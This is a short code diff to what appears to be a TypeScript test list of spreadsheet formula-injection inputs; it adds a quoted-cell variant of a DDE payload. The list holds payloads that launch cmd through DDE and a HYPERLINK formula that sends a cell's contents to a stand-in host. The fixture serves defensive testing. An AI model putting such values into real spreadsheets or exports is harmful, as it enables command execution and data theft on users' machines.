@@ -10,6 +10,7 @@ const attacks: readonly [what: string, text: string][] = [
   ['one behind a sum', "+1+2+cmd|'/C notepad'!A1"],
   ['one behind a function', "@SUM(1)*cmd|'/C notepad'!A1"],
   ['one in a later cell', "anna;=cmd|'/C notepad'!A1"],
+  ['one whose cell is quoted', "=cmd|'/C notepad'!'A1'"],
   ['one without quotes', '=cmd|/C notepad!A1'],
   ['a function that exchanges', '=dde("cmd";"/C notepad";"x")'],
   ['a link that takes a cell with it', '=HYPERLINK("https://a.example/?"&A1,"x")'],
